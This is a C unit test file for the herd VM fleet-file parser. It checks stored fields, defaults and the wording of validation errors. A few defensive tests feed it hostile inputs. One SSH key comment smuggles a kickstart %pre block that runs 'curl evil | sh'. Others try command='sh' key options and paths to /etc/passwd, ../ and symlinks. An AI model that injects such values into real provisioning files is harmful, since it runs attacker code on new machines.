/* tests/unit/test_fleet_check.c — every field of the fleet file: what is
 * accepted and stored, and each kind of error with its position. */
#include "fleettest.h"

#define SHA256 "aBcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789"

static void unlink_in_dir(const char *name)
{
	char path[128];

	snprintf(path, sizeof path, "%s/%s", ft_dir, name);
	unlink(path);
}

static void test_minimal_and_defaults(void **state)
{
	struct fleet *f;
	char path[128];

	(void)state;
	f = ft_must_load(FT_HEAD "vms:\n  one:\n");
	assert_string_equal(f->name, "lab");
	assert_null(f->libvirt_uri);
	assert_int_equal(f->accel, FLEET_ACCEL_AUTO);
	assert_int_equal(f->n_images, 1);
	snprintf(path, sizeof path, "%s/tiny.qcow2", ft_dir);
	assert_string_equal(f->images[0].path, path);	/* absolute, "./" dropped */
	assert_string_equal(f->ssh.user, "herd");
	assert_int_equal(f->ssh.n_authorized_keys, 0);
	assert_int_equal(f->n_vms, 1);
	assert_int_equal(f->vms[0].spec->cpus, 1);
	assert_true(f->vms[0].spec->memory == 1ULL << 30);
	assert_true(f->vms[0].spec->disk == 10ULL << 30);
	assert_int_equal(f->vms[0].spec->clone, FLEET_CLONE_LINKED);
	assert_int_equal(f->vms[0].spec->bootstrap, FLEET_BOOT_NOCLOUD);
	assert_ptr_equal(f->vms[0].spec->image, &f->images[0]);
	fleet_free(f);
}

static void test_every_field_stored(void **state)
{
	struct fleet *f;
	const struct fleet_network *n;
	const struct fleet_spec *s;

	(void)state;
	f = ft_must_load(
		"fleet: lab-2\nversion: 1\nlibvirt: qemu+ssh://host/system\naccel: qemu\n"
		"images:\n"
		"  deb:\n    url: https://example.org/d.qcow2\n    sha256: " SHA256 "\n"
		"    sha256_of: image\n"
		"  tiny:\n    path: tiny.qcow2\n"
		"    boot: {kernel: ./vmlinuz, initrd: initrd.img, cmdline: \"root=/dev/vda\"}\n"
		"networks:\n  labnet: {mode: isolated, cidr: 10.42.8.0/22, dhcp: yes}\n"
		"  lan: {mode: bridge, bridge: br0}\n"
		"ssh:\n  user: admin\n  authorized_keys: [\"" FT_KEY2 " lit@host\", ./key.pub]\n"
		"vms:\n  box:\n    image: deb\n    cpus: 4\n    memory: 1536MiB\n    disk: 1TiB\n"
		"    clone: full\n    networks: [lan, labnet]\n    user_data: user.tmpl\n"
		"    cloud_config: {packages: [git]}\n    vars: {role: db}\n");
	assert_string_equal(f->libvirt_uri, "qemu+ssh://host/system");
	assert_int_equal(f->accel, FLEET_ACCEL_QEMU);
	assert_string_equal(f->images[0].sha256, "abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789");
	assert_int_equal(f->images[0].sum_of, FLEET_SUM_IMAGE);
	assert_null(f->images[0].path);
	assert_non_null(strstr(f->images[1].kernel, "/vmlinuz"));
	assert_true(f->images[1].kernel[0] == '/');
	assert_string_equal(f->images[1].cmdline, "root=/dev/vda");
	n = &f->networks[0];
	assert_int_equal(n->mode, FLEET_NET_ISOLATED);
	assert_int_equal(n->prefix, 22);
	assert_true(n->addr == 0x0a2a0800u);
	assert_true(n->gateway == 0x0a2a0801u);		/* first host */
	assert_true(n->dhcp_first == 0x0a2a0b00u);	/* top quarter: .11.0 */
	assert_true(n->dhcp_last == 0x0a2a0bfeu);
	assert_true(n->dhcp);
	assert_string_equal(f->networks[1].bridge, "br0");
	assert_string_equal(f->ssh.user, "admin");
	assert_int_equal(f->ssh.n_authorized_keys, 2);
	assert_string_equal(f->ssh.authorized_keys[0], FT_KEY2 " lit@host");
	assert_string_equal(f->ssh.authorized_keys[1], FT_KEY1 " one@host");
	s = f->vms[0].spec;
	assert_int_equal(s->cpus, 4);
	assert_true(s->memory == 1536ULL << 20);
	assert_true(s->disk == 1ULL << 40);
	assert_int_equal(s->clone, FLEET_CLONE_FULL);
	assert_int_equal(s->n_networks, 2);
	assert_string_equal(s->networks[0]->name, "lan");
	assert_int_equal(f->vms[0].nics[0].ip, 0);	/* bridge: the LAN's DHCP */
	assert_true(f->vms[0].nics[1].ip != 0);
	assert_non_null(strstr(s->user_data, "/user.tmpl"));
	assert_string_equal(ynode_get(s->vars, "role")->str, "db");
	fleet_free(f);
}

static void test_kickstart(void **state)
{
	struct fleet *f;

	(void)state;
	f = ft_must_load(FT_HEAD "vms:\n  inst:\n    bootstrap: kickstart\n    image: ~\n"
			 "    kickstart: ks.tmpl\n"
			 "    install: {kernel: vmlinuz, initrd: initrd.img, args: \"inst.text\"}\n");
	assert_int_equal(f->vms[0].spec->bootstrap, FLEET_BOOT_KICKSTART);
	assert_null(f->vms[0].spec->image);	/* ~ unsets the default: a blank disk */
	assert_string_equal(f->vms[0].spec->install.args, "inst.text");
	assert_non_null(strstr(f->vms[0].spec->kickstart, "/ks.tmpl"));
	fleet_free(f);
	ft_expect_error(FT_HEAD "vms:\n  inst:\n    bootstrap: kickstart\n",
			"t.yaml:10:3: vm 'inst': bootstrap kickstart needs the installer: "
			"install: {kernel: PATH, initrd: PATH}");
	ft_expect_error(FT_HEAD "vms:\n  a:\n    kickstart: ks.tmpl\n",
			"t.yaml:11:16: vm 'a': kickstart is only used with bootstrap "
			"kickstart (this VM's bootstrap is nocloud; set bootstrap: "
			"kickstart or kickstart: ~)");
	ft_expect_error(FT_HEAD "vms:\n  a:\n    bootstrap: kickstart\n    user_data: user.tmpl\n"
			"    install: {kernel: vmlinuz, initrd: initrd.img}\n",
			"t.yaml:12:16: vm 'a': user_data is not used with bootstrap kickstart");
}

static void test_top_level_errors(void **state)
{
	(void)state;
	ft_expect_error("images: {}\n", "t.yaml:1:1: fleet is missing (add fleet: NAME at the top)");
	ft_expect_error("fleet: Lab\n", "t.yaml:1:8: fleet name \"Lab\" is not valid (use a "
			"lower-case letter, then up to 30 lower-case letters, digits or '-')");
	ft_expect_error("fleet: abcdefghijabcdefghijabcdefghijxyz\n", "fleet name \"abcdefghij");
	/* "--" joins names in libvirt: a fleet name may not hold it or end
	 * with '-', and "images" would own an older herd's image pool */
	ft_expect_error("fleet: lab--x\n", "t.yaml:1:8: fleet name \"lab--x\" may not "
			"hold \"--\" nor end with '-'");
	ft_expect_error("fleet: lab-\n", "t.yaml:1:8: fleet name \"lab-\" may not hold");
	ft_expect_error("fleet: images\n", "t.yaml:1:8: fleet name \"images\" is reserved "
			"(an older herd's shared image pool is herd-images; choose another name)");
	ft_expect_error("fleet: lab\naccel: kvmm\n", "t.yaml:2:8: accel \"kvmm\" is not "
			"valid (did you mean 'kvm'?)");
	ft_expect_error("fleet: lab\naccel: fast\n", "t.yaml:2:8: accel \"fast\" is not "
			"valid (use one of: auto, kvm, qemu)");
	ft_expect_error("fleet: lab\nversion: 2\n", "t.yaml:2:10: version 2 is not supported "
			"(this herd reads version 1)");
	ft_expect_error("fleet: lab\nlibvirt: localhost\n", "t.yaml:2:10: libvirt \"localhost\" "
			"is not a libvirt URI (like qemu:///system)");
	ft_expect_error("fleet: lab\nnetwork:\n  a: {}\n", "t.yaml:2:1: unknown key "
			"'network' (did you mean 'networks'?)");
	ft_expect_error("fleet: lab\nzzz: 1\n", "t.yaml:2:1: unknown key 'zzz' (expected one "
			"of: accel, defaults, fleet, groups, images, libvirt, networks, ssh, "
			"version, vms)");
	ft_expect_error("fleet: lab\nimages: [a]\n", "t.yaml:2:9: images must be a mapping, "
			"not a list");
}

static void test_image_errors(void **state)
{
	(void)state;
	ft_expect_error("fleet: lab\nimages:\n  deb: {url: \"https://x/d.qcow2\"}\n",
			"t.yaml:3:14: image 'deb': a url needs sha256 or sha512 (herd "
			"verifies every download)");
	ft_expect_error("fleet: lab\nimages:\n  deb: {sha256: " SHA256 "}\n",
			"t.yaml:3:3: image 'deb': needs url or path");
	ft_expect_error("fleet: lab\nimages:\n  deb: {url: \"https://x\", path: tiny.qcow2, "
			"sha256: " SHA256 "}\n", "image 'deb': has both url and path (use one)");
	ft_expect_error("fleet: lab\nimages:\n  deb: {path: tiny.qcow2, sha256: abc}\n",
			"t.yaml:3:35: image 'deb': sha256 must be 64 hex digits (this is 3 characters)");
	ft_expect_error("fleet: lab\nimages:\n  deb: {path: tiny.qcow2, sha512: " SHA256 "}\n",
			"sha512 must be 128 hex digits (this is 64 characters)");
	ft_expect_error("fleet: lab\nimages:\n  deb: {path: tiny.qcow2, sha256: "
			"zbcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789}\n",
			"sha256 must be 64 hex digits (this is 64 characters, not all hex)");
	ft_expect_error("fleet: lab\nimages:\n  deb: {url: \"ftp://x/y\", sha256: " SHA256 "}\n",
			"image 'deb': url \"ftp://x/y\" is not a URL (use http://, https:// or file://)");
	ft_expect_error("fleet: lab\nimages:\n  deb: {path: ./missing.qcow2}\n",
			"t.yaml:3:15: image 'deb': path ./missing.qcow2: no such file (looked for ");
	ft_expect_error("fleet: lab\nimages:\n  deb: {path: tiny.qcow2, boot: {initrd: initrd.img}}\n",
			"t.yaml:3:33: image 'deb': boot: kernel is missing (add kernel: PATH)");
	ft_expect_error("fleet: lab\nimages:\n  deb: {path: tiny.qcow2, boot: {kernel: nope}}\n",
			"t.yaml:3:42: image 'deb': boot: kernel nope: no such file");
	ft_expect_error("fleet: lab\nimages:\n  Deb: {path: tiny.qcow2}\n",
			"t.yaml:3:3: image 'Deb': the name is not valid");
	ft_expect_error("fleet: lab\nimages:\n  deb: {path: tiny.qcow2, format: raw}\n",
			"unknown key 'format' (expected one of: boot, path, sha256, sha256_of, sha512, url)");
}

static void test_network_errors(void **state)
{
	(void)state;
	ft_expect_error("fleet: lab\nnetworks:\n  n: {mode: nat}\n", "t.yaml:3:3: network 'n': "
			"needs cidr (like cidr: 10.42.0.0/24)");
	ft_expect_error("fleet: lab\nnetworks:\n  n: {mode: nat, cidr: 10.42.0.0}\n",
			"t.yaml:3:24: network 'n': cidr \"10.42.0.0\" is not a CIDR (like 10.42.0.0/24)");
	ft_expect_error("fleet: lab\nnetworks:\n  n: {cidr: 10.42.0.7/24}\n",
			"network 'n': cidr 10.42.0.7/24 has host bits set (use 10.42.0.0/24)");
	ft_expect_error("fleet: lab\nnetworks:\n  n: {cidr: 10.42.0.0/30}\n",
			"network 'n': cidr 10.42.0.0/30: the prefix must be /8 to /29");
	ft_expect_error("fleet: lab\nnetworks:\n  n: {cidr: 10.042.0.0/24}\n", "is not a CIDR");
	ft_expect_error("fleet: lab\nnetworks:\n  n: {mode: natt, cidr: 10.0.0.0/24}\n",
			"network 'n': mode \"natt\" is not valid (did you mean 'nat'?)");
	ft_expect_error("fleet: lab\nnetworks:\n  n: {mode: bridge}\n",
			"t.yaml:3:3: network 'n': mode bridge needs bridge:");
	ft_expect_error("fleet: lab\nnetworks:\n  n: {mode: bridge, bridge: br0, cidr: 10.0.0.0/24}\n",
			"network 'n': cidr is not used with mode bridge");
	ft_expect_error("fleet: lab\nnetworks:\n  n: {bridge: br0, cidr: 10.0.0.0/24}\n",
			"network 'n': bridge is only for mode bridge (this network is nat)");
	ft_expect_error("fleet: lab\nnetworks:\n  a: {cidr: 10.0.0.0/16}\n  b: {cidr: 10.0.4.0/24}\n",
			"t.yaml:4:13: network 'b': cidr 10.0.4.0/24 overlaps network 'a'");
	ft_expect_error("fleet: lab\nnetworks:\n  n: {cidr: 10.0.0.0/24, dhcp: maybe}\n",
			"network 'n': dhcp \"maybe\" is not true or false");
	ft_expect_error("fleet: lab\nnetworks:\n  n: {cidr: 10.0.0.0/24, dhcp: [a]}\n",
			"t.yaml:3:32: network 'n': dhcp must be true, false or {start: "
			"ADDRESS, end: ADDRESS}, not a list");
	ft_expect_error("fleet: lab\nnetworks:\n  n: {cidr: 10.0.0.0/24, dhcp: {start: 10.0.0.9}}\n",
			"t.yaml:3:32: network 'n': dhcp: end is missing (add end: ADDRESS)");
	ft_expect_error("fleet: lab\nnetworks:\n  n: {cidr: 10.0.0.0/24, dhcp: {start: "
			"10.0.0.9, end: 10.0.0.x}}\n", "network 'n': dhcp: end \"10.0.0.x\" is "
			"not an IPv4 address");
	ft_expect_error("fleet: lab\nnetworks:\n  n: {cidr: 10.0.0.0/24, dhcp: {start: "
			"10.0.0.1, end: 10.0.0.9}}\n", "t.yaml:3:32: network 'n': dhcp: the "
			"range must lie in 10.0.0.2 to 10.0.0.254 (inside the network, after "
			"its gateway)");
	ft_expect_error("fleet: lab\nnetworks:\n  n: {cidr: 10.0.0.0/24, dhcp: {start: "
			"10.0.0.9, end: 10.0.1.9}}\n", "dhcp: the range must lie in");
	ft_expect_error("fleet: lab\nnetworks:\n  n: {cidr: 10.0.0.0/24, dhcp: {start: "
			"10.0.0.9, end: 10.0.0.8}}\n", "network 'n': dhcp: start comes after end");
	ft_expect_error("fleet: lab\nnetworks:\n  n: {mode: bridge, bridge: br0, dhcp: "
			"{start: 10.0.0.9, end: 10.0.0.18}}\n", "network 'n': a dhcp range is "
			"not used with mode bridge");
	ft_expect_error("fleet: lab\nnetworks:\n  LAN: {cidr: 10.0.0.0/24}\n",
			"network 'LAN': the name is not valid");
}

static void test_vm_field_errors(void **state)
{
	(void)state;
	ft_expect_error(FT_HEAD "groups:\n  web:\n    memory: 2GB\n",
			"t.yaml:11:13: group 'web': memory \"2GB\" is not a size (use 2GiB)");
	ft_expect_error(FT_HEAD "  memory: 1024\n", "t.yaml:9:11: defaults: memory 1024 is too "
			"small (at least 16MiB; a bare number is bytes)");
	ft_expect_error(FT_HEAD "  disk: 100TiB\n", "defaults: disk 100TiB is too large (at most 64TiB)");
	ft_expect_error(FT_HEAD "  cpus: 0\n", "t.yaml:9:9: defaults: cpus 0 is out of range (1 to 512)");
	ft_expect_error(FT_HEAD "  cpus: two\n", "defaults: cpus \"two\" is not a whole number");
	ft_expect_error(FT_HEAD "  cpus: [1]\n", "defaults: cpus must be a string, not a list");
	ft_expect_error(FT_HEAD "  clone: copy\n", "defaults: clone \"copy\" is not valid (use one of: linked, full)");
	ft_expect_error(FT_HEAD "  bootstrap: cloud-init\n",
			"defaults: bootstrap \"cloud-init\" is not valid (use one of: nocloud, kickstart, none)");
	ft_expect_error(FT_HEAD "  memroy: 1GiB\n", "t.yaml:9:3: defaults: unknown key 'memroy' "
			"(did you mean 'memory'?)");
	ft_expect_error(FT_HEAD "  cloud_config: [a]\n", "defaults: cloud_config must be a mapping, not a list");
	ft_expect_error(FT_HEAD "  user_data: nope.tmpl\n", "defaults: user_data nope.tmpl: no such file");
	ft_expect_error(FT_HEAD "  user_data: .\n", "defaults: user_data . is a directory, not a file");
	ft_expect_error(FT_HEAD "  count: 3\n", "t.yaml:9:3: defaults: count is only allowed in a group");
	ft_expect_error(FT_HEAD "groups:\n  g:\n    ip: 10.42.0.9\n",
			"group 'g': ip is only allowed in an entry of vms:");
	ft_expect_error(FT_HEAD "vms:\n  a:\n    name: \"x-{{index}}\"\n",
			"vm 'a': name is only allowed in a group");
}

static void test_reference_errors(void **state)
{
	(void)state;
	ft_expect_error(FT_HEAD "vms:\n  a: {image: tinny}\n", "t.yaml:10:14: vm 'a': image "
			"'tinny' is not defined (did you mean 'tiny'?)");
	ft_expect_error(FT_HEAD "vms:\n  a: {image: debian}\n", "vm 'a': image 'debian' is "
			"not defined (defined: tiny)");
	ft_expect_error(FT_HEAD "vms:\n  a: {networks: [lan]}\n", "t.yaml:10:18: vm 'a': "
			"network 'lan' is not defined (defined: labnet)");
	ft_expect_error(FT_HEAD "vms:\n  a: {networks: [labnet, labnet]}\n",
			"vm 'a': network 'labnet' is listed twice");
	ft_expect_error(FT_HEAD "vms:\n  a: {networks: labnet}\n", "vm 'a': networks must be "
			"a list (write [labnet])");
	ft_expect_error("fleet: lab\nvms:\n  a: {}\n", "t.yaml:3:3: vm 'a': has no image "
			"(add one under images: and set image: NAME)");
	ft_expect_error("fleet: lab\nimages: {t: {path: tiny.qcow2}}\nvms:\n  a: {image: t}\n",
			"t.yaml:4:3: vm 'a': has no networks (add one under "
			"networks: and set networks: [NAME])");
}

static void test_name_errors(void **state)
{
	(void)state;
	ft_expect_error(FT_HEAD "vms:\n  Web_1:\n", "t.yaml:10:3: vm 'Web_1': the name is "
			"not a valid hostname");
	ft_expect_error(FT_HEAD "vms:\n  -web:\n", "not a valid hostname");
	ft_expect_error(FT_HEAD "groups:\n  web:\n    count: 3\n    name: web\n",
			"t.yaml:12:11: group 'web': name \"web\" has no {{index}}, so its 3 "
			"VMs would share one name (like \"web-{{index}}\")");
	ft_expect_error(FT_HEAD "groups:\n  web:\n    name: \"web-{{idx}}\"\n",
			"t.yaml:11:11: group 'web': name \"web-{{idx}}\" uses {{idx}} (a name "
			"may use {{index}}, {{n}}, {{group}} and {{fleet}})");
	ft_expect_error(FT_HEAD "groups:\n  web:\n    name: \"Web-{{index}}\"\n",
			"group 'web': name \"Web-{{index}}\" gives \"Web-1\", which is not a "
			"valid hostname");
	ft_expect_error(FT_HEAD "groups:\n  web:\n    count: 10001\n",
			"group 'web': count 10001 is out of range (0 to 10000)");
	ft_expect_error(FT_HEAD "groups:\n  web:\n    name: {{index}}\n",
			"a key must be a string, not a mapping (quote a value that starts with {{)");
	ft_expect_error(FT_HEAD "groups:\n  Web:\n", "group 'Web': the name is not valid");
}

static void test_ssh_errors(void **state)
{
	(void)state;
	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [./nope.pub]\n",
			"t.yaml:10:21: ssh: authorized_keys ./nope.pub: no such file (looked for ");
	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [nokeys.pub]\n",
			"ssh: authorized_keys nokeys.pub has no keys");
	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: \"ssh-ed25519 AAAA\"\n",
			"ssh: authorized_keys must be a list (write [KEY or PATH])");
	ft_expect_error(FT_HEAD "ssh:\n  user: Admin\n", "ssh: user \"Admin\" is not a valid login name");
}

/* Every authorized key is one well-formed OpenSSH public key line: a
 * quote and newlines in one wrote a %pre section into ks.cfg. */
static void test_hostile_keys(void **state)
{
	(void)state;
	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys:\n    - \"" FT_KEY1
			" x\\\"\\n%pre\\ncurl evil | sh\\n%end\\n\"\n",
			"t.yaml:11:7: ssh: authorized key 1: its comment holds a '\"' (kickstart "
			"could not quote it; change the comment)");
	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [\"" FT_KEY1 " a\\nb\"]\n",
			"t.yaml:10:21: ssh: authorized key 1: its comment holds a control "
			"character or invalid UTF-8");
	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [\"" FT_KEY1 " back\\\\slash\"]\n",
			"ssh: authorized key 1: its comment holds a '\\'");
	/* the blob must decode and name the type it is written with */
	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [\"ssh-ed25519 AAAAC3NzaFILE x\"]\n",
			"ssh: authorized key 1: its key data is not base64");
	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [\"ssh-rsa " FT_KEY1_BLOB "\"]\n",
			"ssh: authorized key 1: its key data is not a ssh-rsa key");
	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [\"ssh-foo AAAAC3NzaC1lZDI1NTE5\"]\n",
			"ssh: authorized key 1: not an OpenSSH public key line: the key type "
			"is not one herd knows");
	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [\"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5\"]\n",
			"ssh: authorized key 1: its key data holds no key");
	/* files: each line that is not blank or # is a key; nothing quoted */
	ft_write("priv.pub", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n");
	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [priv.pub]\n",
			"t.yaml:10:21: ssh: authorized_keys priv.pub: line 1: not an OpenSSH "
			"public key line: the key type is not one herd knows (ssh-ed25519, "
			"ssh-rsa, ecdsa-sha2-nistp256, ...; no options before it) (a private "
			"key? give the .pub file)");
	ft_write("priv.pub", "# keys\n\n" FT_KEY1 " ok\r\n" FT_KEY1 " \x1b[2Jbad\n");
	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [priv.pub]\n",
			"ssh: authorized_keys priv.pub: line 4: its comment holds a control");
	ft_write("priv.pub", "command=\"sh\" " FT_KEY1 "\n");
	ft_expect_error(FT_HEAD "ssh:\n  authorized_keys: [priv.pub]\n",
			"ssh: authorized_keys priv.pub: line 1: not an OpenSSH public key line");
	unlink_in_dir("priv.pub");
}

/* One error does not hide unrelated ones: a missing image still lets the
 * duplicate-name and address checks run. */
static void test_errors_do_not_hide_others(void **state)
{
	struct fleet_diags d;
	char line[1024];

	(void)state;
	assert_null(ft_load("fleet: lab\nimages:\n  tiny: {path: ./missing.qcow2}\n"
			    "networks:\n  net: {cidr: 10.0.0.0/24}\n"
			    "defaults: {image: tiny, networks: [net], cpus: 0}\n"
			    "groups:\n  web: {count: 2}\n"
			    "vms:\n  a: {ip: 10.0.0.5}\n  b: {ip: 10.0.0.5}\n  web-2: {}\n", &d));
	fleet_diag_format(&d.items[0], line, sizeof line);
	if (d.total != 4) {
		size_t i;
		for (i = 0; i < d.n; i++) {
			fleet_diag_format(&d.items[i], line, sizeof line);
			print_error("%s\n", line);
		}
		fail();
	}
	fleet_diag_format(&d.items[0], line, sizeof line);
	assert_non_null(strstr(line, "t.yaml:3:16: image 'tiny': path ./missing.qcow2: no such file"));
	fleet_diag_format(&d.items[1], line, sizeof line);
	assert_string_equal(line, "t.yaml:6:48: defaults: cpus 0 is out of range (1 to 512)");
	fleet_diag_format(&d.items[2], line, sizeof line);
	assert_string_equal(line, "t.yaml:8:3: group 'web': makes the name \"web-2\", which "
			    "vm 'web-2' (line 12) already has (names must be unique; change "
			    "the name pattern)");
	fleet_diag_format(&d.items[3], line, sizeof line);
	assert_string_equal(line, "t.yaml:11:11: vm 'b': ip 10.0.0.5 is also the address of "
			    "vm 'a' (give each VM its own)");
}

/* Files stay inside the fleet file's folder, symlinks followed, unless
 * the fleet is loaded with allow_outside; "~/" is outside, except for
 * authorized_keys files. */
static void test_paths_stay_inside(void **state)
{
	char out[160], home[96], yaml[2048], link[160], *base;
	struct fleet_opts o = { .allow_outside = true };
	struct fleet_diags d;
	struct fleet *f;
	const char *old_home = getenv("HOME");
	FILE *fp;

	(void)state;
	snprintf(home, sizeof home, "/tmp/herd-home-XXXXXX");
	assert_non_null(mkdtemp(home));
	snprintf(out, sizeof out, "%s/shadow", home);
	fp = fopen(out, "w");
	assert_non_null(fp);
	fputs(FT_KEY1 " home@key\n", fp);
	fclose(fp);
	snprintf(link, sizeof link, "%s/innocent.img", ft_dir);
	assert_int_equal(symlink(out, link), 0);
	setenv("HOME", home, 1);
	base = strrchr(home, '/') + 1;
	snprintf(yaml, sizeof yaml, FT_HEAD "vms:\n  a: {user_data: \"%s\"}\n", out);
	ft_expect_error(yaml, "t.yaml:10:18: vm 'a': user_data /tmp/herd-home-");
	ft_expect_error(yaml, "/shadow is outside the fleet file's folder /tmp/herd-fleettest-");
	ft_expect_error(yaml, "(a fleet file reads only files beside it, symlinks followed; "
			"run herd with --allow-outside to allow it)");
	snprintf(yaml, sizeof yaml, FT_HEAD "vms:\n  a: {kickstart: ../%s/shadow, "
		 "bootstrap: kickstart, install: {kernel: vmlinuz, initrd: initrd.img}}\n", base);
	ft_expect_error(yaml, "t.yaml:10:18: vm 'a': kickstart ../herd-home-");
	snprintf(yaml, sizeof yaml, "fleet: lab\nimages:\n  x: {path: innocent.img}\n");
	ft_expect_error(yaml, "t.yaml:3:13: image 'x': path innocent.img is outside");
	snprintf(yaml, sizeof yaml, "fleet: lab\nimages:\n  x: {path: tiny.qcow2, "
		 "boot: {kernel: ~/shadow}}\n");
	ft_expect_error(yaml, "t.yaml:3:40: image 'x': boot: kernel ~/shadow is outside");
	snprintf(yaml, sizeof yaml, FT_HEAD "vms:\n  a: {install: {initrd: /etc/passwd}}\n");
	ft_expect_error(yaml, "install: initrd /etc/passwd is outside");
	/* keys from the home folder are fine: only key lines come out */
	f = ft_must_load(FT_HEAD "ssh: {authorized_keys: [~/shadow]}\nvms: {a: {}}\n");
	assert_string_equal(f->ssh.authorized_keys[0], FT_KEY1 " home@key");
	fleet_free(f);
	/* all of it with allow_outside */
	snprintf(yaml, sizeof yaml, FT_HEAD "  user_data: %s\nvms: {a: {}}\n", out);
	f = fleet_load_mem_opts("t.yaml", ft_dir, yaml, strlen(yaml), &o, &d);
	if (f == NULL)
		fail_msg("%s", ft_first(&d));
	assert_string_equal(f->vms[0].spec->user_data, out);
	fleet_free(f);
	snprintf(yaml, sizeof yaml, "fleet: lab\nimages:\n  x: {path: innocent.img}\n");
	f = fleet_load_mem_opts("t.yaml", ft_dir, yaml, strlen(yaml), &o, &d);
	if (f == NULL)
		fail_msg("%s", ft_first(&d));
	assert_string_equal(f->images[0].path, link);	/* as written: libvirt reads it */
	fleet_free(f);
	if (old_home != NULL)
		setenv("HOME", old_home, 1);
	unlink(link);
	unlink(out);
	rmdir(home);
}

static void test_many_errors_sorted_and_capped(void **state)
{
	char yaml[4096];
	struct fleet_diags d;
	size_t i, n;

	(void)state;
	n = (size_t)snprintf(yaml, sizeof yaml, "%s", FT_HEAD "vms:\n");
	for (i = 0; i < 30; i++)
		n += (size_t)snprintf(yaml + n, sizeof yaml - n, "  v%zu: {cpus: 0}\n", i);
	n += (size_t)snprintf(yaml + n, sizeof yaml - n, "bogus: 1\n");
	assert_null(ft_load(yaml, &d));
	assert_int_equal(d.total, 31);
	assert_int_equal(d.n, FLEET_MAX_ERRORS);
	for (i = 1; i < d.n; i++)	/* in file order, the earliest kept */
		assert_true(d.items[i].pos.line > d.items[i - 1].pos.line);
	assert_int_equal(d.items[0].pos.line, 10);
	assert_int_equal(d.items[19].pos.line, 29);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_minimal_and_defaults),
		cmocka_unit_test(test_every_field_stored),
		cmocka_unit_test(test_kickstart),
		cmocka_unit_test(test_top_level_errors),
		cmocka_unit_test(test_image_errors),
		cmocka_unit_test(test_network_errors),
		cmocka_unit_test(test_vm_field_errors),
		cmocka_unit_test(test_reference_errors),
		cmocka_unit_test(test_name_errors),
		cmocka_unit_test(test_ssh_errors),
		cmocka_unit_test(test_hostile_keys),
		cmocka_unit_test(test_many_errors_sorted_and_capped),
		cmocka_unit_test(test_errors_do_not_hide_others),
		cmocka_unit_test(test_paths_stay_inside),
	};

	return cmocka_run_group_tests(tests, ft_setup, ft_teardown);
}
